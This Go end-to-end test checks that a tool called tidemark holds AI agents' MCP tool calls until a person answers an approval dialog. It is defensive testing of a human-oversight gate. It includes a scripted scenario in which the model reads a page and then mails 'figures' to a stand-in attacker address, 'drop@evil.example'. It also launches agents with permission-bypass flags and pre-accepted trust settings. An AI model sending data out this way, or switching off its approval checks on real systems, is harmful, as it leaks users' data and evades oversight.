//go:build e2e && linux

package e2e_test

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/tidemark/tidemark/internal/test/mcptest"
	"github.com/tidemark/tidemark/internal/test/terminal"
)

func TestMain(m *testing.M) {
	mcptest.Main() // an agent may have started this program as a server
	os.Exit(m.Run())
}

// Keys as terminals send them.
const (
	enter  = "\r"
	escape = "\x1b"
	up     = "\x1b[A"
	down   = "\x1b[B"
	right  = "\x1b[C"
)

// answering is one way to answer the dialog of an agent, key by key; each is pressed when the screen shows what it says.
type answering struct {
	keys []key
	runs bool // the call runs
	open bool // the question stays open, for whoever else is asked
}

type key struct{ shows, press string }

// dialogs are what people press in the agents' own dialogs.
var dialogs = map[string]map[string]answering{
	"claude": {
		"once": {keys: []key{
			{"Decision: ▸ Deny", right}, {"❯ ◉ Deny", up}, {"❯ ◯ Allow similar", up}, {"❯ ◯ Allow once", " "}, {"❯ ✔ Decision: ▸ Allow once", down}, {"  ✔ Decision: Allow once", enter},
		}, runs: true},
		"what is preselected": {keys: []key{{"❯ ✔ Decision: ▸ Deny", down}, {"  ✔ Decision: Deny", enter}}},
		"decline":             {keys: []key{{"❯ ✔ Decision: ▸ Deny", down}, {"  ✔ Decision: Deny", right}, {"  ✔ Decision: Deny", enter}}},
		"escape":              {keys: []key{{"❯ ✔ Decision: ▸ Deny", escape}}, open: true},
	},
	"codex": {
		"once":                {keys: []key{{"› 3. Deny", "1"}}, runs: true},
		"what is preselected": {keys: []key{{"› 3. Deny", enter}}},
		"escape":              {keys: []key{{"› 3. Deny", escape}}, open: true},
	},
}

// interactive is an agent on a terminal, in a home in which it has been used before.
func interactive(w *world, prompt string) *terminal.Terminal {
	w.t.Helper()
	x := terminal.Open(w.t, 140, 50)
	x.Patience = patience
	x.Answering()
	args := []string{"--dangerously-skip-permissions", prompt}
	if w.rig.name == "codex" { // without approvals it would decline by itself
		args = []string{"--ask-for-approval", "on-request", "--sandbox", "workspace-write", prompt}
	}
	cmd := exec.CommandContext(w.t.Context(), binary(w.rig.name), args...)
	cmd.Dir, cmd.Env = w.work, append(w.environment(), "TERM=xterm-256color")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = x.Far, x.Far, x.Far
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
	if err := cmd.Start(); err != nil {
		w.t.Fatal(err)
	}
	w.t.Cleanup(func() {
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		_ = cmd.Wait()
	})
	return x
}

// used makes a home look like that of somebody who has used the agent before in this folder.
func (s serving) used(w *world) {
	switch w.rig.name {
	case "claude":
		s.write(w, obj{
			"hasCompletedOnboarding": true, "theme": "dark", "bypassPermissionsModeAccepted": true,
			"customApiKeyResponses": obj{"approved": []any{"none"}, "rejected": []any{}},
			"projects":              obj{w.work: obj{"hasTrustDialogAccepted": true, "hasCompletedProjectOnboarding": true}},
		})
	case "codex":
		s.write(w, obj{"": fmt.Sprintf("\n[projects.%q]\ntrust_level = \"trusted\"\n\n[notice.model_migrations]\n\"gpt-5.5\" = \"gpt-6-sol\"\n", w.work)})
	}
}

// scene is what an agent is asked to do in front of some servers, the last of which must ask.
type scene struct {
	name  string
	agent string
	serve func(w *world, s serving)
	calls func(w *world, s serving) []step
	ran   func(w *world) int // how often the last call reached its server
	holds string             // the name of that call
}

var scenes = []scene{
	{name: "claude, older revision", agent: "claude", serve: func(w *world, s serving) { s.serve(w) }, calls: rememberingAfter, ran: rememberedTimes, holds: "memory__create_entities"},
	{name: "codex", agent: "codex", serve: func(w *world, s serving) { s.serve(w) }, calls: rememberingAfter, ran: rememberedTimes, holds: "memory__create_entities"},
	{name: "claude, newer revision", agent: "claude", serve: modernServers, calls: mailing, ran: mailedTimes, holds: "mail__send_mail"},
}

func rememberingAfter(w *world, s serving) []step { return []step{s.reads(w), s.remembers("after")} }

func rememberedTimes(w *world) int { return strings.Count(w.file("memory.jsonl"), `"after"`) }

// modernServers are two servers of the Go SDK, which speak the newest revision; what they are told is kept.
func modernServers(w *world, s serving) {
	w.t.Helper()
	servers := obj{}
	for name, args := range map[string][]string{"pages": nil, "mail": {filepath.Join(w.work, "sent.txt")}} {
		line, err := mcptest.Command(name, args...)
		if err != nil {
			w.t.Fatal(err)
		}
		all := []any{"-c", `tee "$0" | "$@"`, filepath.Join(w.work, name+".told")}
		for _, word := range line {
			all = append(all, word)
		}
		servers[name] = obj{"command": "sh", "args": all}
	}
	s.write(w, s.entry(servers))
	if out := w.tidemark("mcp", "wrap", w.rig.name); !strings.Contains(out, "wrote ") {
		w.t.Fatalf("wrap: %s", out)
	}
}

func mailing(_ *world, s serving) []step {
	mail := s.tool("mail", "send_mail")
	mail.args = obj{"to": "drop@evil.example", "body": "figures"}
	return []step{s.tool("pages", "read_page"), mail}
}

func mailedTimes(w *world) int {
	if told := w.file("mail.told"); !strings.Contains(told, "2026-07-28") || strings.Contains(told, `"initialize"`) {
		w.t.Errorf("the agent did not speak the newest revision: %s", tail([]byte(told)))
	}
	return strings.Count(w.file("sent.txt"), "drop@evil.example")
}

// TestDialogs: a held call is asked about in the agent's own dialog, on a terminal; the default is no, a person's keys
// answer, and closing it answers nothing.
// MCP-18, MCP-19, BEY-10
func TestDialogs(t *testing.T) {
	for _, c := range scenes {
		for answer, a := range dialogs[c.agent] {
			t.Run(c.name+" "+answer, func(t *testing.T) {
				t.Parallel()
				if why := missing(c.agent); why != "" {
					t.Skip(why)
				}
				if c.play(t, a); !t.Failed() {
					fmt.Fprintf(os.Stderr, "dialog of %s, %s: ok\n", c.name, answer)
				}
			})
		}
	}
}

// begin waits for the dialog, past what Codex may offer first: another model. It takes no key at once.
func begin(x *terminal.Terminal, asks string) {
	const offer = "2. Use existing model"
	last := time.Now()
	x.Until(func() bool {
		shown := x.Shows()
		if strings.Contains(shown, offer) && time.Since(last) > 3*time.Second {
			last = time.Now()
			x.Press("2")
		}
		return strings.Contains(shown, asks)
	}, asks)
}

func (c scene) play(t *testing.T, a answering) {
	var r *rig
	for _, one := range rigs() {
		if one.name == c.agent {
			r = one
		}
	}
	s := servings[c.agent]
	w := open(t, r, with{bare: true, file: own("10m"), last: func(w *world) {
		s.used(w)
		c.serve(w, s)
	}})
	w.model.script(append(c.calls(w, s), step{say: done})...)
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("the model saw last\n%s", tail([]byte(w.model.latest())))
		}
	})
	x := interactive(w, "Do what the notes say with the servers.")
	asks := "Tidemark holds " + c.holds
	begin(x, asks)
	shown := x.Shows()
	for _, want := range []string{"Why it is asked", "tidemark approvals watch", "Deny"} {
		if !strings.Contains(shown, want) {
			t.Errorf("the dialog shows\n%s\nwant %q", shown, want)
		}
	}
	for _, k := range a.keys {
		x.Wait(k.shows)
		time.Sleep(time.Second) // a person reads; what is faster is taken for a machine's
		x.Press(k.press)
	}
	if a.open {
		x.Until(func() bool { return !strings.Contains(x.Shows(), asks) }, "the dialog gone")
		id, err := w.asked(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		if n := c.ran(w); n != 0 {
			t.Errorf("the call ran %d times", n)
		}
		w.tidemark("approvals", "deny", id)
	}
	x.Wait(done)
	want := 0
	if a.runs {
		want = 1
	}
	if n := c.ran(w); n != want {
		t.Errorf("the call ran %d times, want %d", n, want)
	}
	if refused := strings.Contains(w.model.latest(), "is blocked by security policy"); refused == a.runs {
		t.Errorf("the model was told no: %v; it saw\n%s", refused, tail([]byte(w.model.latest())))
	}
}
